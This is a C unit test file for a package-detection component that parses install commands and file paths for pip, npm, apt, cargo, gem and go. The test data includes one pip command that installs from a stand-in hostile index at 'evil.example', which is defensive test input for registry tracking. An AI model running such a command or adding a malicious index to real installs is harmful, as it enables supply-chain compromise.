// SPDX-License-Identifier: Apache-2.0
/* What command lines and paths tell of packages. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "userspace/base/auto.h"
#include "userspace/enrich/packages.h"

static struct packages_seen seen;
static struct packages found;
static struct arena arena;

static void begin(struct event *ev, enum wire_kind kind)
{
	arena_reset(&arena);
	event_init(ev, kind, &arena);
	event_set_strz(ev, F_OUTCOME, "success");
}

static void put(char *out, size_t max, struct str s, const char *mark)
{
	size_t n = strlen(out);

	if (s.n)
		snprintf(out + n, max - n, "%s%.*s", mark, (int)s.n, s.p);
}

/* "manager:name=version<registry@url#hash" of each, joined by a blank. */
static const char *told(void)
{
	static char out[4096];

	out[0] = 0;
	for (size_t i = 0; i < found.n; i++) {
		const struct package *p = &found.v[i];

		put(out, sizeof(out), str_from(p->manager), i ? " " : "");
		put(out, sizeof(out), p->name, ":");
		put(out, sizeof(out), p->version, "=");
		put(out, sizeof(out), p->registry, "<");
		put(out, sizeof(out), p->url, "@");
		put(out, sizeof(out), p->hash, "#");
	}
	return out;
}

static const char *command(const char *text)
{
	static struct event ev;
	struct str *v, s;
	size_t n = 0;

	begin(&ev, WIRE_EXEC);
	s = arena_strndup(&arena, text, strlen(text));
	v = arena_alloc(&arena, 512 * sizeof(*v));
	for (char *p = (char *)s.p, *word; (word = strsep(&p, " ")) != NULL && n < 512;)
		v[n++] = str_from(word);
	event_set_list(&ev, F_PROC_ARGS, v, n);
	memset(&seen, 0, sizeof(seen));
	packages_find(&found, &seen, &ev);
	return told();
}

static void command_lines_name_packages(void **state)
{
	static const char *const rows[][2] = {
		{ "/usr/bin/python3 /usr/bin/pip install requests==2.31.0 flask",
		  "pip:requests=2.31.0 pip:flask" },
		{ "python3 -m pip install --index-url https://evil.example/simple -q a[x]>=1.2;python_version<'3'",
		  "pip:a=>=1.2<https://evil.example/simple" },
		{ "pip3.11 install -r requirements.txt", "" },
		{ "pip install -e . ./local.whl /tmp/x.whl", "pip@./local.whl pip@/tmp/x.whl" },
		{ "pip install git+https://h.example/x.git", "pip@git+https://h.example/x.git" },
		{ "pip install x@https://h.example/x.whl#sha256=ab12",
		  "pip:x@https://h.example/x.whl#sha256=ab12#sha256=ab12" },
		{ "pip list", "" },
		{ "pip uninstall requests", "" },
		{ "uv pip install ruff", "pip:ruff" },
		{ "node /usr/bin/npm install left-pad@1.3.0 @types/node@20 --registry=https://r.example",
		  "npm:left-pad=1.3.0<https://r.example npm:@types/node=20<https://r.example" },
		{ "node /usr/lib/node_modules/npm/bin/npm-cli.js i express", "npm:express" },
		{ "npm ci", "" },
		{ "npm run install-deps", "" },
		{ "npx cowsay hello world", "npm:cowsay" },
		{ "apt-get install -y -t stable curl=7.88 jq", "apt:curl=7.88 apt:jq" },
		{ "apt-get update", "" },
		{ "dpkg --unpack /var/cache/apt/archives/jq_1.6-2_amd64.deb",
		  "deb:jq=1.6-2@/var/cache/apt/archives/jq_1.6-2_amd64.deb" },
		{ "apk add --repository http://r.example/x bash=5.2",
		  "apk:bash=5.2<http://r.example/x" },
		{ "cargo install ripgrep --version 14.1.0", "cargo:ripgrep=14.1.0" },
		{ "cargo install --git https://h.example/x x", "cargo:x<https://h.example/x" },
		{ "cargo build", "" },
		{ "gem install rails -v 7.1 --source https://g.example",
		  "gem:rails=7.1<https://g.example" },
		{ "go install golang.org/x/tools/gopls@v0.16.0",
		  "go:golang.org/x/tools/gopls=v0.16.0" },
		{ "sh -c pip install x", "" },
		{ "grep pip install", "" },
		{ "pipeline install x", "" },
		{ "pip", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		if (strcmp(command(rows[i][0]), rows[i][1]) != 0)
			fail_msg("%s: %s, not %s", rows[i][0], told(), rows[i][1]);
	}
}

static void a_long_line_is_counted(void **state)
{
	char text[2048] = "pip install";

	(void)state;
	for (int i = 0; i < PACKAGES_MAX + 7; i++)
		snprintf(text + strlen(text), sizeof(text) - strlen(text), " p%d", i);
	command(text);
	assert_int_equal(found.n, PACKAGES_MAX);
	assert_int_equal(found.more, 7);
}

static const char *file(enum wire_kind kind, const char *path, bool write)
{
	static struct event ev;

	begin(&ev, kind);
	event_set_strz(&ev, F_FILE_PATH, path);
	if (kind == WIRE_FILE_OPEN)
		event_set_bool(&ev, F_FILE_WRITE, write);
	packages_find(&found, &seen, &ev);
	for (size_t i = 0; i < found.n; i++)
		assert_true(found.v[i].from_files);
	return told();
}

static void paths_name_packages(void **state)
{
	static const char *const rows[][2] = {
		{ "/workspace/v/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA",
		  "pip:requests=2.31.0" },
		{ "/usr/lib/python3/dist-packages/a_b-1.0rc1.egg-info/PKG-INFO", "pip:a_b=1.0rc1" },
		{ "/v/site-packages/requests/__init__.py", "" },
		{ "/v/site-packages/nodash.dist-info/x", "" },
		{ "/workspace/node_modules/left-pad/package.json", "npm:left-pad" },
		{ "/workspace/node_modules/@types/node/package.json", "npm:@types/node" },
		{ "/workspace/node_modules/a/node_modules/b/package.json", "npm:b" },
		{ "/workspace/node_modules/a/src/package.json", "" },
		{ "/workspace/node_modules/.package-lock.json", "" },
		{ "/var/lib/dpkg/info/libc6:amd64.list", "deb:libc6" },
		{ "/var/lib/dpkg/info/jq.md5sums", "" },
		{ "/root/.cargo/registry/src/index.crates.io-6f17/serde-1.0.200/Cargo.toml",
		  "cargo:serde=1.0.200" },
		{ "/root/.cargo/registry/src/index.crates.io-6f17/serde-1.0.200/x/Cargo.toml", "" },
		{ "/var/lib/gems/3.1.0/specifications/rails-html-1.6.gemspec",
		  "gem:rails-html=1.6" },
		{ "/root/go/pkg/mod/cache/download/golang.org/x/mod/@v/v0.1.0.zip",
		  "go:golang.org/x/mod=v0.1.0" },
		{ "/workspace/package.json", "" },
		{ "/", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		memset(&seen, 0, sizeof(seen));
		if (strcmp(file(WIRE_FILE_OPEN, rows[i][0], true), rows[i][1]) != 0)
			fail_msg("%s: %s, not %s", rows[i][0], told(), rows[i][1]);
	}
	memset(&seen, 0, sizeof(seen));
	assert_string_equal(file(WIRE_FILE_OPEN, rows[0][0], false), ""); /* only read */
	assert_string_equal(file(WIRE_FILE_RENAME, rows[9][0], false), "deb:libc6");
	assert_string_equal(file(WIRE_FILE_DELETE, rows[0][0], false), "");
}

static void one_is_told_once(void **state)
{
	static const char path[] = "/v/site-packages/requests-2.31.0.dist-info/METADATA";

	(void)state;
	memset(&seen, 0, sizeof(seen));
	assert_string_equal(file(WIRE_FILE_OPEN, path, true), "pip:requests=2.31.0");
	assert_string_equal(file(WIRE_FILE_OPEN, path, true), "");
	assert_string_equal(
		file(WIRE_FILE_MKDIR, "/v/site-packages/requests-2.32.0.dist-info", true),
		"pip:requests=2.32.0");
}

/* Whatever the words are. */
static void odd_words_are_no_harm(void **state)
{
	(void)state;
	command("");
	command("pip install @ == [ ; =1 @@ a@ @/ : #sha256= --index-url");
	command("npm i @ @a @a/ a@ -");
	command("dpkg -i .deb _ _.deb /");
	command("cargo install --version");
	command("gem install : -v");
	file(WIRE_FILE_OPEN, "/site-packages/-1.dist-info", true);
	file(WIRE_FILE_OPEN, "/node_modules/", true);
	file(WIRE_FILE_OPEN, "/node_modules/@", true);
	file(WIRE_FILE_OPEN, "/registry/src/", true);
	file(WIRE_FILE_OPEN, "/pkg/mod/cache/download/@v/.zip", true);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(command_lines_name_packages),
		cmocka_unit_test(a_long_line_is_counted),
		cmocka_unit_test(paths_name_packages),
		cmocka_unit_test(one_is_told_once),
		cmocka_unit_test(odd_words_are_no_harm),
	};
	int r;

	arena_init(&arena, 1 << 20);
	r = cmocka_run_group_tests(tests, NULL, NULL);
	arena_done(&arena);
	return r;
}
